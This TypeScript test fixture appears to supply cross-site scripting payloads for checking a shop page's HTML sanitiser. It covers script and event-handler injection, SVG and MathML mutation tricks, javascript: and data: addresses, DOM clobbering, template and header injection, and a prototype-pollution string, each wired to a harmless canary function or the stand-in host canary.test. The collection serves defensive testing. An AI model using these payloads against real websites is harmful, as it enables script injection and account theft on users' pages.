/**
 * The hostile texts: everything that an attacker would type to make the page run a script. A text that runs calls
 * `canary` with its own name, or requests something from `canary.test`; the tests watch for both.
 */

/** The host from which nothing may be requested that could run. */
export const CANARY_HOST = 'canary.test';

/** A call without spaces, because some hostile texts use it without quotes. */
const call = (name: string) => `canary('${name.replaceAll(' ', '-')}')`;
const image = (name: string) => `<img src=x onerror=${call(name)}>`;

/** Complete pieces of HTML, so that several can stand side by side. */
const WHOLE: Record<string, (run: string, name: string) => string> = {
  'script in other letters': (run) => `<ScRiPt/x>${run}</sCrIpT >`,
  'script from elsewhere': () => `<script src="//${CANARY_HOST}/script.js"></script>`,
  'module script': (run) => `<script type="module">${run}</script>`,
  'script in a drawing': (run) => `<svg><script>${run}</script></svg>`,
  'script in a drawing from elsewhere': () => `<svg><script href="//${CANARY_HOST}/svg.js"></script></svg>`,
  'script after a closed one': (run) => `</script><script>${run}</script>`,
  picture: (_run, name) => image(name),
  'picture without spaces': (run) => `<img/src="x"/onerror=${run}>`,
  'picture with a broken quote': (run) => `<img """><img src=x onerror="${run}">"`,
  'picture set': (run) => `<picture><source srcset=x><img src=x onerror="${run}"></picture>`,
  drawing: (run) => `<svg onload=${run}></svg>`,
  'drawing that moves': (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  'drawing with a link': (run) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  'drawing that makes a link': (run) =>
    `<svg><a><set attributeName=href to="javascript:${run}"></set><text y=9>x</text></a></svg>`,
  'drawing in a drawing': (run) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${run}></svg>#x"></use></svg>`,
  'foreign object': (_run, name) => `<svg><foreignObject>${image(name)}</foreignObject></svg>`,
  'formula with a link': (run) => `<math href="javascript:${run}"><mtext>x</mtext></math>`,
  'mutation by noscript': (_run, name) => `<noscript><p title="</noscript>${image(name)}"></noscript>`,
  'mutation by a formula': (_run, name) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call(name)}&gt;"></table></math>`,
  'mutation by a style': (_run, name) => `<svg></p><style><a id="</style>${image(name)}"></a></svg>`,
  'mutation by forms': (_run, name) =>
    `<form><math><mtext></form><form><mglyph><style></math>${image(name)}</style></form>`,
  'mutation by a list': (_run, name) => `<listing>&lt;img src=1 onerror=${call(name)}&gt;</listing>`,
  frame: (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  'frame with a page': (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'frame with an event': (run) => `<iframe src="about:blank" onload=${run}></iframe>`,
  object: (run) => `<object data="javascript:parent.${run}"></object>`,
  embed: (run) => `<embed src="javascript:parent.${run}">`,
  details: (run) => `<details open ontoggle=${run}><summary>x</summary></details>`,
  film: (run) => `<video><source onerror=${run} src=x></video>`,
  sound: (run) => `<audio src=x onerror=${run}></audio>`,
  'field that takes the focus': (run) => `<input autofocus onfocus=${run}>`,
  body: (run) => `<body onload=${run}>`,
  marquee: (run) => `<marquee onstart=${run}>x</marquee>`,
  'style sheet from elsewhere': (run) => `<link rel=stylesheet href="//${CANARY_HOST}/sheet.css" onerror=${run}>`,
  'style that asks elsewhere': () => `<style>@import url(//${CANARY_HOST}/style.css);</style>`,
  'style of an element': (run) => `<p style="width:expression(${run});background:url(javascript:${run})">x</p>`,
  'animation that ends': (run) =>
    `<style>@keyframes x{to{top:1px}}</style><p style="animation:x 1ms" onanimationend=${run}>x</p>`,
  refresh: (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  base: () => `<base href="//${CANARY_HOST}/base/">`,
  'form to a script': (run) =>
    `<form action="javascript:${run}"><button>x</button><button formaction="javascript:${run}">y</button></form>`,
  link: (run) => `<a href="javascript:${run}">x</a>`,
  'link with entities': (run) => `<a href="&#1;jav&#x09;a&#10;script&colon;${run}">x</a>`,
  'link in other letters': (run) => `<a href=" JaVaScRiPt:${run}">x</a>`,
  'link to another script': (run) => `<a href="vbscript:${run}">x</a>`,
  'link to a page of data': (run) => `<a href="data:text/html,<script>opener.${run}</script>" target=_blank>x</a>`,
  'press of anything': (run) => `<x-press onclick=${run} onpointerover=${run} onfocus=${run} tabindex=0>x</x-press>`,
  template: (_run, name) => `<template><script>${call(name)}</script>${image(name)}</template>`,
  'template with a shadow': (_run, name) => `<div><template shadowrootmode=open>${image(name)}</template></div>`,
  'named like a global': () =>
    `<a id=shopIslands></a><a id=shopIslands name=version href="//${CANARY_HOST}/"></a><a id=wc_add_to_cart_params></a>`,
  'named like a part of the document': () =>
    `<form name=body></form><img name=currentScript src="data:," data-base="//${CANARY_HOST}/clobbered/">`,
  'named like a part of a form': () =>
    '<form id=attributes><input name=attributes><input name=childNodes><input name=parentNode></form>',
  'written for an older browser': (_run, name) =>
    `<!--[if IE]>${image(name)}<![endif]--><?xml-stylesheet href="javascript:${call(name)}"?><![CDATA[${image(name)}]]>`,
};

/** Texts that are dangerous if they are treated as something other than text. */
const OTHERS: Record<string, (run: string, name: string) => string> = {
  'encoded once': (run) => `&lt;img src=x onerror=${run}&gt;`,
  'encoded twice': (run) => `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  'encoded for an address': (run) => encodeURIComponent(`<img src=x onerror=${run}>`),
  'encoded for a script': (run) => `\\u003cimg src=x onerror=${run}\\u003e`,
  'wide letters': (run) => `\uff1cimg src=x onerror=${run}\uff1e`,
  'out of a script': (run) => `';${run};//";${run};//\`;${run};//\\';${run};//`,
  'out of an attribute': (run) => `" autofocus onfocus=${run} onmouseover=${run} x="' onfocus=${run} y='`,
  'out of a selector': (run) => `"],*{background:url(//${CANARY_HOST}/css)}/*${run}`,
  'a template’s words': (run) => `{{constructor.constructor("${run}")()}}\${${run}}<%= ${run} %>`,
  'a replacement’s signs': () => "$& $` $' $1 $<name> {name} {count} {0} %s %1$s",
  'other lines': (run) => `\u2028${run}\u2029\r\nSet-Cookie: canary=1\r\n\r\n<script>${run}</script>`,
  'signs that hide': (_run, name) => `<scr\u0000ipt>${call(name)}</scr\u0000ipt>\u202e${image(name)}\u202c\u200b\ufeff`,
};

/** HTML that swallows what comes after it: each stands alone. */
const OPEN: Record<string, (run: string, name: string) => string> = {
  script: (run) => `<script>${run}`,
  comment: (_run, name) => `<!-- --!>${image(name)}<!--`,
  textarea: (_run, name) => `<textarea></textarea>${image(name)}<textarea>`,
  title: (_run, name) => `<title></title>${image(name)}<title>`,
  'style or plain text': (_run, name) => `<style></style>${image(name)}<style><plaintext>`,
  'attribute without an end': (run) => `<img src=x onerror=${run} title="`,
  'very long': (_run, name) => `${'x<b>'.repeat(1500)}${image(name)}`,
};

const named = (shapes: Record<string, (run: string, name: string) => string>, prefix = '') =>
  Object.entries(shapes).map(([name, shape]) => ({
    name: prefix + name,
    text: shape(call(prefix + name), prefix + name),
  }));

export const shapes = [...named(WHOLE), ...named(OTHERS), ...named(OPEN, 'open ')];

/** A few texts that together contain every hostile text: complete pieces side by side, each of the others alone. */
export const bundles: readonly string[] = [
  named(WHOLE)
    .map(({ text }) => text)
    .join('\n'),
  ...named({ ...OTHERS }).map(({ text }) => text),
  ...named(OPEN, 'open ').map(({ text }) => text),
];

/** Texts with a script element. The shop’s own HTML may contain everything else. */
export const scripts = named(
  Object.fromEntries(Object.entries(WHOLE).filter(([name]) => name.includes('script ') || name === 'module script')),
  'own ',
)
  .filter(({ text }) => /<script/i.test(text))
  .map(({ text }) => text)
  .join('');

/** Texts that must not be used as addresses. */
export const addresses: readonly string[] = [
  'javascript:%',
  'JaVaScRiPt:%',
  ' \tjava\nscript\r:%',
  '\u0001javascript:%',
  'javascript&colon;%',
  'javascript://127.0.0.1/%0A%',
  'javascript:/*shopengine/v1/advanced-search*/%',
  'vbscript:%',
  'data:text/html,<script>parent.%</script>',
  `data:text/html;base64,${Buffer.from(`<script>parent.${call('address')}</script>`).toString('base64')}`,
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="%"/>',
  'blob:javascript:%',
  'view-source:javascript:%',
  'feed:javascript:%',
  'filesystem:javascript:%',
  `//${CANARY_HOST}/script.js`,
  `\\\\${CANARY_HOST}\\script.js`,
  `/\t/${CANARY_HOST}/script.js`,
  `https://127.0.0.1@${CANARY_HOST}/script.js`,
  '#"><img src=x onerror=%>',
  '%22);background:url(javascript:%)',
].map((address) => address.replace(/%(?![0-9A-F]{2})/g, call('address')));

/** Keys that change every object of the page where somebody copies them carelessly. */
export const pollutedJson =
  '"__proto__":{"polluted":"yes","src":"//canary.test/polluted.js"},"constructor":{"prototype":{"polluted":"yes"}}';
